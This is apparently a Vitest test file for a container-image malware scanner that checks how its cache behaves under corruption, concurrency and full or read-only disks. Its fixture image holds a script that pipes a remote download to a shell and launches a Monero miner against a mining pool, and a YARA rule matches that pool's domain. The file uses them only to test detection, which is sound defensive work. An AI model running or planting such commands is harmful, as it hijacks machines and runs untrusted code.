import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, type TestContext } from 'vitest';
import { DEFAULT_LIMITS } from '../src/base/limits.ts';
import { ContentCache, FORMAT } from '../src/store/content-cache.ts';
import { LayerCache } from '../src/store/layer-cache.ts';
import { builtCli, type CliResult, startCli } from '../testkit/built-cli.ts';
import { checkInThread } from '../testkit/check-in-thread.ts';
import { buildImage, type ImageSpec } from '../testkit/image.ts';
import { ociArchive } from '../testkit/store.ts';

const SPEC: ImageSpec = {
  steps: [
    {
      createdBy: 'ADD file:x in /',
      items: [
        { path: 'bin/sh', data: 'x' },
        { path: 'etc/passwd', data: 'root:x:0:0::/root:/bin/sh\n' },
      ],
    },
    {
      createdBy: 'COPY run.sh /',
      items: [
        {
          path: 'run.sh',
          mode: 0o755,
          data: '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n/x -o stratum+tcp://pool.minexmr.com:3333\n',
        },
      ],
    },
  ],
  config: { Cmd: ['/run.sh'] },
};
const IMAGE = buildImage(SPEC);

let main = '';
let folder = '';
let archive = '';
beforeAll(async () => {
  main = await builtCli();
});
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'clearpull-cache-'));
  archive = join(folder, 'image.tar');
  writeFileSync(archive, ociArchive([{ image: IMAGE, name: 'app:1' }]));
});
const mounted: string[] = [];
afterEach(() => {
  for (const place of mounted.splice(0)) spawnSync('umount', [place]);
  rmSync(folder, { recursive: true, force: true });
});
afterAll(() => expect(mounted).toEqual([]));

/** Every file below a folder, by its path from there. */
function filesBelow(place: string): Map<string, Buffer> {
  const names = readdirSync(place, { recursive: true, encoding: 'utf8' });
  const files = names.filter((name) => statSync(join(place, name)).isFile());
  return new Map(files.sort().map((name) => [name, readFileSync(join(place, name))]));
}

describe('a cache that is damaged', () => {
  it('at any byte of any file, is noticed and rebuilt', async () => {
    const place = join(folder, 'cache');
    mkdirSync(place);
    const check = async (): Promise<string> => {
      const cache = new LayerCache(new ContentCache(place), DEFAULT_LIMITS);
      return JSON.stringify(await checkInThread(archive, DEFAULT_LIMITS, folder, cache));
    };
    const wanted = await check();
    const whole = filesBelow(place);
    expect(whole.size).toBeGreaterThan(8);
    const kinds = new Set<string>();
    for (const [i, [name, good]] of [...whole].entries()) {
      const kind = name.split('/').slice(0, 2).join('/');
      const all = places(good.length);
      // Files of one kind are written and read by the same lines: of each one place, after all of the first.
      const tried = kinds.has(kind) ? all.slice(i % all.length).slice(0, 1) : all;
      kinds.add(kind);
      for (const at of tried) {
        const bad = Buffer.from(good);
        bad[at] = (bad[at] ?? 0) ^ 0x41;
        writeFileSync(join(place, name), at % 3 === 0 ? good.subarray(0, at) : bad);
        // Marks are only looked at for a detector that has not yet seen the layer.
        if (name.includes('/marks/')) rmSync(join(place, FORMAT, 'seen'), { recursive: true });
        expect(await check(), `${name}, byte ${at}`).toBe(wanted);
        expect(readFileSync(join(place, name)), `${name}, byte ${at}`).toEqual(good);
      }
    }
    expect([...filesBelow(place).keys()]).toEqual([...whole.keys()]);
    expect(kinds.size).toBeGreaterThan(3);
  });
});

/** Some places of a file of that length: its beginning, where it has a form, and some of the rest. */
function places(length: number): number[] {
  return [...new Set([0, 11, 76, Math.floor(length / 2), length - 1])].filter((at) => at >= 0 && at < length);
}

function cli(args: readonly string[], env: Record<string, string> = {}): Promise<CliResult> {
  const surroundings = { HOME: folder, TMPDIR: folder, ...env };
  return startCli(main, ['check', '-f', 'json', '--fail-on', 'never', ...args], {
    env: surroundings,
    cwd: folder,
  }).done;
}

describe('a cache that several processes use', () => {
  it('gives all of them the same answer, and is whole afterwards', async () => {
    const place = join(folder, 'cache');
    const run = (): Promise<CliResult> => cli([archive, '--cache-dir', place]);
    const together = await Promise.all([run(), run(), run()]);
    for (const { code, err, out } of together) expect([code, err, out]).toEqual([0, '', together[0]?.out]);
    expect([...filesBelow(place).keys()].filter((name) => name.endsWith('.tmp'))).toEqual([]);
    const before = filesBelow(join(place, FORMAT));
    expect((await run()).out).toBe(together[0]?.out);
    expect(filesBelow(join(place, FORMAT))).toEqual(before);
  });
});

/** Writes the name of each of the command's modules that is loaded to LOADED. */
const HOOK = `import { appendFileSync } from 'node:fs';
import { registerHooks } from 'node:module';
registerHooks({
  load(url, context, next) {
    if (url.includes('/dist/cli/')) appendFileSync(process.env.LOADED, url.replace(/.*\\//, '') + '\\n');
    return next(url, context);
  },
});
`;

describe('an image that was checked before', () => {
  it('is told of as it was, and no detector is loaded for it', async () => {
    const hook = join(folder, 'hook.mjs');
    writeFileSync(hook, HOOK);
    const loaded = async (args: readonly string[]): Promise<readonly [CliResult, readonly string[]]> => {
      const list = join(folder, 'loaded');
      writeFileSync(list, '');
      const result = await cli(args, { LOADED: list, NODE_OPTIONS: `--import=${hook}` });
      return [result, readFileSync(list, 'utf8').trim().split('\n')];
    };
    const place = join(folder, 'cache');
    const without = await cli([archive, '--no-cache']);
    const [first, all] = await loaded([archive, '--cache-dir', place]);
    const [again, few] = await loaded([archive, '--cache-dir', place]);
    expect([first.out, again.out]).toEqual([without.out, without.out]);
    const judging = (names: readonly string[]) =>
      names.filter((name) => /detect-(?:miner|wallet|pool\.)/.test(name));
    expect(judging(all).length).toBeGreaterThan(2);
    expect(judging(few)).toEqual([]);
    expect(few).toContain('check.js');
  });

  it('is judged anew under another name, by other rules, and with another command', async () => {
    const place = join(folder, 'cache');
    const rule = join(folder, 'own.yar');
    const judged = (): number => filesBelow(join(place, FORMAT, 'judged')).size;
    await cli([archive, '--cache-dir', place]);
    expect(judged()).toBe(1);
    writeFileSync(
      rule,
      `rule own { meta: id = "own" title = "T" why = "w" description = "D" fix = "F" severity = "high" confidence = "high" grade = "content" category = "miner" reference = "https://example.com/" strings: $a = "minexmr.com" condition: $a }`,
    );
    expect((await cli([archive, '--cache-dir', place, '--rules', rule])).out).toContain('yara/own');
    expect(judged()).toBe(2);
    const renamed = join(folder, 'renamed.tar');
    writeFileSync(renamed, ociArchive([{ image: IMAGE, name: 'tomcat:1' }]));
    await cli([renamed, '--cache-dir', place]);
    expect(judged()).toBe(3);
    const spec = { ...SPEC, config: { Cmd: ['/bin/sh'] } };
    writeFileSync(archive, ociArchive([{ image: buildImage(spec), name: 'app:1' }]));
    const other = await cli([archive, '--cache-dir', place]);
    expect(judged()).toBe(4);
    expect(other.out).toBe((await cli([archive, '--no-cache'])).out);
  });
});

/** A small file system of its own, for what only happens there; leaves the test out where that is not allowed. */
function smallDisk(context: TestContext, name: string, options: string): string {
  const place = join(folder, name);
  mkdirSync(place);
  const { status, stderr } = spawnSync('mount', ['-t', 'tmpfs', '-o', options, 'tmpfs', place], {
    encoding: 'utf8',
  });
  if (status !== 0) context.skip(`a tmpfs cannot be mounted here: ${stderr?.trim() || 'no mount program'}`);
  mounted.push(place);
  return place;
}

describe('a full disk', () => {
  it('under the cache does no harm', async (context) => {
    const disk = smallDisk(context, 'disk', 'size=16k');
    const { code, out } = await cli([archive, '--cache-dir', join(disk, 'cache')]);
    const without = await cli([archive, '--no-cache']);
    expect([code, out]).toEqual([0, without.out]);
    expect([...filesBelow(disk).keys()].filter((name) => name.includes('.tmp'))).toEqual([]);
  });

  it('under an output is an error message, and the old file stays', async (context) => {
    const disk = smallDisk(context, 'disk', 'size=8k');
    const file = join(disk, 'report.json');
    writeFileSync(file, 'the old report');
    const { code, err } = await cli([archive, '--no-cache', '-o', `json=${file}`]);
    expect(code).toBe(2);
    expect(err).toMatch(/can be written to .*report\.json.*\n.*no space/i);
    expect([...filesBelow(disk)]).toEqual([['report.json', Buffer.from('the old report')]]);
  });

  it('where a compressed archive must be unpacked is an error message', async (context) => {
    const disk = smallDisk(context, 'disk', 'size=8k');
    const packed = join(folder, 'image.tar.gz');
    writeFileSync(packed, gzipSync(readFileSync(archive)));
    const { code, err } = await cli([packed, '--no-cache'], { TMPDIR: disk });
    expect(code).toBe(3);
    expect(err).toMatch(/could not be written into .*ENOSPC.*\n.*\n.*needs room/);
    expect([...filesBelow(disk).keys()]).toEqual([]);
  });
});

describe('what is written', () => {
  it('is the cache and the outputs that were named, and nothing else', async () => {
    const home = join(folder, 'home');
    for (const name of ['home', 'tmp', 'out']) mkdirSync(join(folder, name));
    const env = { HOME: home, TMPDIR: join(folder, 'tmp'), XDG_CACHE_HOME: join(home, 'cache') };
    const packed = join(folder, 'image.tar.gz');
    writeFileSync(packed, gzipSync(readFileSync(archive)));
    for (const target of [archive, packed, join(folder, 'not-there.tar')]) {
      await cli([target, '-o', 'json=out/report.json'], env);
    }
    const all = readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .filter((name) => statSync(join(folder, name)).isFile())
      .map((name) => relative('.', name));
    const elsewhere = all.filter((name) => !name.startsWith('home/cache/clearpull/'));
    expect(elsewhere.sort()).toEqual(['image.tar', 'image.tar.gz', 'out/report.json']);
    expect(all.filter((name) => /scratch|\.tmp$/.test(name))).toEqual([]);
  });

  it('is nothing on a disk that can only be read', async (context) => {
    const disk = smallDisk(context, 'disk', 'size=64k,ro');
    const env = { HOME: disk, TMPDIR: disk };
    const { code, err, out } = await cli([archive], env);
    const without = await cli([archive, '--no-cache']);
    expect([code, out]).toEqual([0, without.out]);
    expect(err).toMatch(/cannot be used to keep what was read/);
  });
});
